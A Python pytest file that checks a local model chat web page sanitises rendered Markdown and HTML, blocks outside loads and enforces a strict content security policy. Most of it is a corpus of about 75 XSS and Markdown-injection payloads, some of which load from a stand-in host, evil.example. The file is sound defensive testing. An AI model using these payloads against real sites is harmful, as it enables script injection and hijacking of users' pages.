"""Nothing that a model, a person or a file writes runs, loads or imitates anything."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from gguf_hub.api.server.app import PAGE
from tests.api.server.page.browser import ELSEWHERE, Page
from tests.api.server.page.scripted_server import ScriptedServer

RUN = "window.pwned=1"
CORPUS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\x00>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'<img """><script>{RUN}</script>">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}' id=bait>x</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>x</a>",
    f"<a href=' &#14; javascript:{RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{RUN}'>x</a>",
    "<a href='data:text/html,<script>opener.pwned=1</script>'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='width:expression({RUN})'>x</div>",
    "<div style='position:fixed;inset:0;background:red'>cover</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href='http://evil.example/'>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><img src=x onerror={RUN}></title>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    "<form id=settings><input name=key></form>",
    "<img name=getElementById><form id=ask action='http://evil.example/'><button>x</button></form>",
    "<div id=input>x</div><a id=talk></a><div class='user body unseen'>x</div>",
    f"<button data-action=copy onclick={RUN}>x</button>",
    f"[x](javascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"![x](javascript:{RUN})",
    "![x](http://evil.example/x.png)",
    f"![x](x\" onerror=\"{RUN})",
    f"[x](http://a \"t\\\" onmouseover={RUN}\")",
    f"<javascript:{RUN}>",
    f"```js\" onmouseover=\"{RUN}\n{RUN}\n```",
    f"```<img/src/onerror={RUN}>\nx\n```",
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <script>{RUN}</script> |",
    f"# <img src=x onerror={RUN}>",
    f"- [ ] <img src=x onerror={RUN}>",
    f"[ref]\n\n[ref]: javascript:{RUN}",
    f"http://x.example/\"onmouseover=\"{RUN}",
    f"<a href=\"http://x\" onmouseover={RUN}>x</a>",
    f"\u2028<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}}",
]  # fmt: skip
# what is in the conversation: only elements of Markdown, with nothing that acts
LOOK = """
const allowed = new Set(['P','BR','HR','H1','H2','H3','H4','H5','H6','UL','OL','LI','BLOCKQUOTE',
  'PRE','CODE','EM','STRONG','DEL','A','TABLE','THEAD','TBODY','TR','TH','TD','DIV','SPAN','BUTTON']);
const bad = [];
for (const node of document.querySelectorAll('article .body *')) {
  const isOurs = node.closest('.bar') || node.matches('.code, .wide-table');
  const isPlain = !['DIV', 'SPAN', 'BUTTON'].includes(node.nodeName);
  if (!allowed.has(node.nodeName) || !(isPlain || isOurs)) bad.push(node.nodeName);
  for (const {name, value} of node.attributes) {
    if (/^on|^style$|^src|^id$|^name$/.test(name)) bad.push(name + '=' + value);
    if (name === 'href' && !/^(https?|mailto):/i.test(value)) bad.push(value);
  }
}
return bad;
"""


def assert_unharmed(page: Page, url: str) -> None:
    assert page.run("return window.pwned ?? null") is None
    loaded = page.run("return performance.getEntriesByType('resource').map((e) => e.name)")
    assert [name for name in loaded if not name.startswith((url, "data:,"))] == []
    assert (
        page.run("return document.querySelectorAll('#settings, #ask, #input, #talk').length") == 4
    )


@pytest.mark.parametrize("part", range(3))
def test_nothing_in_an_answer_runs(part: int, page: Page, server: ScriptedServer) -> None:
    texts = CORPUS[part::3]
    for text in texts:
        server.say(text)
        page.ask("Say it")
        assert page.run(LOOK) == [], text
    server.say("\n\n".join(texts))
    page.ask("All of it")
    for link in page.all("article .body a[href]"):  # a link opens nothing of this page's
        assert link.get_attribute("rel") == "noopener noreferrer"
    page.run(
        "document.querySelectorAll('article .body *').forEach((e) => {"
        "  e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); e.focus?.(); })"
    )
    assert page.run(LOOK) == []
    assert_unharmed(page, server.url)


def test_nothing_that_is_pasted_runs(page: Page, server: ScriptedServer) -> None:
    text = "\n\n".join(CORPUS).replace("\x00", "").replace("\u2028", "\n")
    page.run("document.getElementById('input').value = arguments[0]", text)
    page.click("#send")
    page.settle()
    assert page.run("return document.querySelector('article.user .body').children.length") == 0
    assert page.run("return document.querySelector('article.user .body').textContent") == text
    assert server.bodies[0][1]["messages"] == [{"role": "user", "content": text}]
    page.press("edit", 0)
    page.click("form.edit button[data-action=cancel-edit]")
    page.reload()
    page.click("#conversations button[data-action=open]")
    page.wait(lambda: len(page.messages) == 2)
    assert_unharmed(page, server.url)


def test_nothing_streams_into_life(page: Page, server: ScriptedServer) -> None:
    server.say("".join(CORPUS[5:12]), piece_s=0.002)
    page.ask("Slowly")
    assert page.run(LOOK) == []
    assert_unharmed(page, server.url)


def test_nothing_in_a_file_runs(page: Page, server: ScriptedServer, tmp_path: Path) -> None:
    messages = [
        {"id": i, "parent": i - 1 if i else None, "role": "assistant", "content": text,
         "note": text, "reasoning": text, "model": text,
         "tool_calls": [{"id": text, "function": {"name": text, "arguments": text}}]}
        for i, text in enumerate(CORPUS)
    ]  # fmt: skip
    conversation = {"title": CORPUS[5], "messages": messages, "settings": {"system": CORPUS[0]}}
    data = {"format": "gguf-hub conversations", "version": 1, "conversations": [conversation]}
    (tmp_path / "bad.json").write_text(json.dumps(data))
    page.one("#import-file").send_keys(str(tmp_path / "bad.json"))
    page.wait(lambda: "imported" in page.status)
    page.click("#conversations button[data-action=open]")
    page.wait(lambda: len(page.all("article")) == len(CORPUS))
    page.run("document.querySelectorAll('details').forEach((e) => { e.open = true; })")
    assert page.run(LOOK) == []
    assert_unharmed(page, server.url)


def test_markdown_is_shown_as_such(page: Page, server: ScriptedServer) -> None:
    server.say(
        "# Title\n\nSome **bold** and `code`.\n\n```python\nprint('<b>&amp;')\n```\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n[site](https://example.org) <b>raw</b>"
    )
    page.ask("Show")
    body = "article.assistant .body"
    assert page.text(f"{body} h1") == "Title"
    assert page.text(f"{body} strong") == "bold"
    assert page.text(f"{body} .bar span") == "python"
    assert page.run("return document.querySelector('pre').textContent") == "print('<b>&amp;')\n"
    assert page.texts(f"{body} td") == ["1", "2"]
    assert "☑ done" in page.text(body)
    assert "<b>raw</b>" in page.text(body)
    link = page.one(f"{body} a")
    assert (link.get_attribute("href"), link.get_attribute("target")) == (
        "https://example.org/", "_blank"
    )  # fmt: skip


def test_code_is_copied_as_it_is(page: Page, server: ScriptedServer) -> None:
    permission = {
        "origin": server.url,
        "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"],
    }
    page.driver.execute_cdp_cmd("Browser.grantPermissions", permission)
    server.say("Here:\n\n```sh\nls  -l <x> && echo\n```")
    page.ask("Code")
    page.click(".code button")
    page.wait(lambda: page.text(".code button") == "Copied")
    assert page.run_async("return navigator.clipboard.readText()") == "ls  -l <x> && echo\n"
    page.press("copy")
    page.wait(lambda: page.text("article:last-child footer").startswith("Copied"))
    assert page.run_async("return navigator.clipboard.readText()").startswith("Here:\n\n```sh")


def test_it_works_by_plain_http_from_another_machine(
    open_page: Callable[..., Page], server: ScriptedServer
) -> None:
    page = open_page(server.url.replace("127.0.0.1", ELSEWHERE))
    assert page.run("return window.isSecureContext") is False
    server.say("```\ncode\n```\n\n<img src=x onerror=alert(1)>")
    page.ask("Code")
    page.click(".code button")
    page.wait(lambda: page.text(".code button") == "Copied")
    assert page.run(LOOK) == []
    page.reload()
    page.click("#conversations button[data-action=open]")
    page.wait(lambda: page.messages[:1] == ["Code"])


def test_the_page_may_not_run_or_load_anything_else(page: Page, server: ScriptedServer) -> None:
    for script in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.createElement('script').text = 'window.pwned = 1'",
        "trustedTypes.createPolicy('other', {})",
        # not at once: what the driver runs itself may do anything
        "await new Promise((done, fail) => setTimeout(() => {"
        "  try { done(eval('window.pwned = 1')); } catch (error) { fail(error); } }))",
    ):
        assert "failed" in str(page.run_async(f"{script}; return 'did it'")), script
    refused = page.run_async(
        "return await Promise.all(['fetch', 'image'].map((kind) => new Promise((done) => {"
        "  const timer = setTimeout(() => done('loaded'), 5000);"
        "  const stop = () => { clearTimeout(timer); done('refused'); };"
        "  if (kind === 'fetch') fetch('http://127.0.0.1:9/').then(() => {}, stop);"
        "  else { const i = new Image(); i.onerror = stop; i.src = 'http://127.0.0.1:9/x.png'; }"
        "})))"
    )
    assert refused == ["refused", "refused"]
    complaints = page.complaints()
    assert any("connect-src 'self'" in text for text in complaints)
    assert any("img-src data:" in text for text in complaints)


# -- without a browser ----------------------------------------------------------------------------


def test_its_rules_are_strict(start_server: Callable[..., ScriptedServer]) -> None:
    httpx = pytest.importorskip("httpx")
    reply = httpx.get(start_server().url)
    policy = reply.headers["content-security-policy"]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert "unsafe" not in policy
    assert "*" not in policy
    assert rules["default-src"] == rules["base-uri"] == rules["frame-ancestors"] == "'none'"
    assert rules["script-src"] == "'self'"
    assert rules["require-trusted-types-for"] == "'script'"
    assert reply.headers["x-content-type-options"] == "nosniff"


def test_it_has_no_inline_scripts_and_no_addresses_of_others() -> None:
    page = (PAGE / "index.html").read_text(encoding="utf-8")
    assert re.findall(r"<script(?![^>]* src=)", page) == []
    assert re.findall(r"\son\w+=|\sstyle=|<style", page) == []
    for path in (*PAGE.glob("*.js"), *PAGE.glob("*.css"), PAGE / "index.html"):
        text = path.read_text(encoding="utf-8")
        assert re.findall(r"https?://", text) == [], path.name
        assert (
            re.findall(r"\.innerHTML|outerHTML|insertAdjacentHTML|\beval\(|document\.write", text)
            == []
        )


def test_vendored_files_are_those_that_were_published() -> None:
    row = r"^\| `([\w./-]+)` \|.*\| `([0-9a-f]{64})` \|$"
    listed = re.findall(row, (PAGE / "vendor" / "README.md").read_text("utf-8"), re.MULTILINE)
    files = {path.relative_to(PAGE / "vendor").as_posix(): path
             for path in (PAGE / "vendor").rglob("*") if path.is_file()}  # fmt: skip
    assert dict(listed).keys() == files.keys() - {"README.md"}
    for name, sha256 in listed:
        assert hashlib.sha256(files[name].read_bytes()).hexdigest() == sha256, name
    used = "".join(path.read_text("utf-8") for path in PAGE.glob("*.js"))
    for name in files:
        assert not name.endswith("js") or f'"./vendor/{name}"' in used
